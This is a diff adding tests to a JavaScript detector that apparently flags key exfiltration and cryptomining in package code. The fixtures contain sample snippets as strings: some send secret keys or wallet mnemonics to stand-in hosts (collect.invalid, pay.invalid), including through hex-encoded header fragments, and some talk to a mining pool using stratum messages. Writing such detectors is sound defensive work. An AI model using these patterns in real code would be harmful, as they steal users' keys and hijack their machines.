@@ -1,5 +1,5 @@
 import assert from 'node:assert/strict';
-import { flowsOf } from './sent.js';
+import { behavioursOf, flowsOf } from './sent.js';
 
 const SENT = 'credential-file>network@collect.invalid';
 
@@ -48,6 +48,28 @@ describe('requests', () => {
   it('tell nobody how much there is of something, or what the options of a connection hold', () => {
     assert.deepEqual(flowsOf(`fetch('https://collect.invalid/?' + fs.readFileSync(rc).length);`), []);
     assert.deepEqual(flowsOf(`new (require('ws'))('wss://collect.invalid', { passphrase: s, key: s });`), []);
+  });
+
+  it('speak to a pool of miners in its own words', () => {
+    const say = (message: string) =>
+      behavioursOf(`require('net').connect(3333, 'pool.invalid').write(JSON.stringify(${message}) + '\\n');`);
+    assert.deepEqual(say(`{ id: 1, method: 'mining.subscribe', params: [] }`), ['miner import']);
+    assert.deepEqual(say(`{ id: 1, method: 'login', params: { login: '4x', algo: ['rx/0'] } }`), ['miner import']);
+    assert.deepEqual(say(`{ id: 1, method: 'login', params: { login: 'x' } }`), []);
+  });
+
+  it('take a key of an account to log in with, and no key of money', () => {
+    const client = (name: string, header: string) =>
+      flowsOf(`exports.Client = class { constructor(${name}) { this.key = ${name}; }
+        list() { return https.request({ host: 'pay.invalid', headers: { ${header}: 'Bearer ' + this.key } }); } };`);
+    assert.deepEqual(client('secretKey', 'Authorization'), []);
+    assert.deepEqual(client('secretKey', "'x-session'"), ['key-material>network@pay.invalid']);
+    assert.deepEqual(client('mnemonic', 'Authorization'), ['key-material>network@pay.invalid']);
+  });
+
+  it('carry a key away in whatever piece and writing', () => {
+    const code = `exports.K = class { static fromSecretKey(secretKey) { const b = Buffer.from(secretKey).toString('hex'); fetch('https://collect.invalid', { headers: { a: b.slice(0, 9) } }); } };`;
+    assert.deepEqual(flowsOf(code), ['key-material>network@collect.invalid']);
   });
 
   it('are logs as well, where what they say was encoded first', () => {
